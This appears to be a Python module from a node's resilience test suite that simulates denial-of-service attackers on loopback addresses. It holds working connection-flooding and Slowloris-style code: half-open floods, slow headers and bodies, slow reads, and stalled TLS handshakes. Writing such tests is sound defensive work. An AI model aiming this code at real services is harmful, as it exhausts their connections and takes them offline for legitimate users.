"""How does somebody without a key mean harm: with connections that say nothing, or too slowly.

All of them come from a small network of its own. Run by `rogue.py`.
"""

import contextlib
import itertools
import select
import socket
import time
from collections import Counter
from collections.abc import Callable
from typing import NamedTuple

from aitbc_node.transport.addresses import parse_address
from aitbc_toolkit.suites.strangers import Pace, Say, Victim

HALF_OPEN = 10_000
OPENED_PER_S = 1_000
OF_EACH_WAY = 10
STEP_S = 1.0
SMALL_BUFFER = 4_096
ASKS_AFTER_STEPS = 45
ANSWERS = 30
"""So many of one request are more than the kernels take for who does not read them."""
_GONE = select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR


class Sockets:
    """Hold many, and notice those that the node has closed."""

    def __init__(self, network: str) -> None:
        self.held: dict[int, socket.socket] = {}
        self._epoll = select.epoll()
        self._sources = itertools.cycle(f"{network}.{number}" for number in range(1, 251))

    def open(self, address: str, *, buffer: int = 0) -> socket.socket:
        """Connect without waiting."""
        sock = socket.socket()
        sock.setblocking(False)  # noqa: FBT003 - the standard library takes it by position
        if buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        sock.bind((next(self._sources), 0))
        sock.connect_ex(parse_address(address))
        self.held[sock.fileno()] = sock
        self._epoll.register(sock, select.EPOLLRDHUP)
        return sock

    def gone(self) -> list[int]:
        """Close those that the node has closed; return which they were."""
        found = [number for number, events in self._epoll.poll(0) if events & _GONE]
        for number in found:
            self._epoll.unregister(number)
            self.held.pop(number).close()
        return found

    def close(self) -> None:
        """Close all."""
        for number, sock in self.held.items():
            self._epoll.unregister(number)
            sock.close()
        self.held.clear()


class HalfOpen:
    """Open thousands of connections to both doors of a node, say nothing, and open them again."""

    def __init__(self, victim: Victim, say: Say) -> None:
        self.figures: Counter[str] = Counter()
        self._say = say
        self._sockets = Sockets("127.0.8")
        self._doors = itertools.cycle((victim.p2p, victim.rpc))
        self._pace = Pace(OPENED_PER_S)

    def tick(self) -> None:
        """Open what is due, up to the whole number."""
        gone = len(self._sockets.gone())
        if gone and not self.figures["hung up on"]:
            self._say("hung up on")
        self.figures["hung up on"] += gone
        room = HALF_OPEN - len(self._sockets.held)
        for _ in range(min(self._pace.due(), room)):
            self._sockets.open(next(self._doors))
            self.figures["half open"] += 1
        most = self.figures["most half open"]
        self.figures["most half open"] = max(most, len(self._sockets.held))

    def stop(self) -> None:
        """Close all."""
        self._sockets.close()


class Way(NamedTuple):
    """Be one way of being slow: what is said at once, and what is done at each step after that."""

    door: str
    first: bytes
    step: Callable[[socket.socket], object]
    buffer: int = 0
    reads: bool = False
    """It has so much left to read that it never comes to the end: only writing tells that."""


WAYS = {
    "head": Way("rpc", b"GET /status HTTP/1.1\r\nX: ", lambda sock: sock.send(b"a")),
    "body": Way(
        "rpc",
        b"POST /tx HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 100000\r\n\r\n",
        lambda sock: sock.send(b" "),
    ),
    "answer": Way(
        "rpc",
        b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * ANSWERS,
        lambda sock: sock.recv(1),
        buffer=SMALL_BUFFER,
        reads=True,
    ),
    "tls": Way("p2p", b"\x16\x03\x01\x10\x00\x01", lambda sock: sock.send(b"\x00")),
}


class Loris:
    """Write, and read, one byte a second on many connections of each way; come back when cut."""

    def __init__(self, victim: Victim, say: Say) -> None:
        self.figures: Counter[str] = Counter()
        self._victim, self._say = victim, say
        self._sockets = Sockets("127.0.10")
        self._ways: dict[int, str] = {}
        self._fresh: set[int] = set()
        self._steps: Counter[int] = Counter()
        self._step_at = 0.0

    def tick(self) -> None:
        """Count the cut, and once in a while take a step on each."""
        for number in self._sockets.gone():
            what = f"cut: {self._ways.pop(number)}"
            self.figures[what] += 1
            if self.figures[what] == 1:
                self._say(what)
            self._fresh.discard(number)
        if time.monotonic() >= self._step_at:
            self._step_at = time.monotonic() + STEP_S
            self._step()
            self._refill()

    def stop(self) -> None:
        """Close all."""
        self._sockets.close()
        self._ways.clear()
        self._fresh.clear()

    def _step(self) -> None:
        for number, sock in self._sockets.held.items():
            way = WAYS[self._ways[number]]
            with contextlib.suppress(OSError):  # closed by now: the next tick counts it
                if number in self._fresh:
                    sock.send(way.first)
                    self._fresh.discard(number)
                    self._steps[number] = 0
                    continue
                way.step(sock)
                self._steps[number] += 1
                if way.reads and self._steps[number] % ASKS_AFTER_STEPS == 0:
                    sock.send(b"G")

    def _refill(self) -> None:
        there = Counter(self._ways.values())
        for name, way in WAYS.items():
            for _ in range(OF_EACH_WAY - there[name]):
                address = getattr(self._victim, way.door)
                number = self._sockets.open(address, buffer=way.buffer).fileno()
                self._ways[number] = name
                self._fresh.add(number)
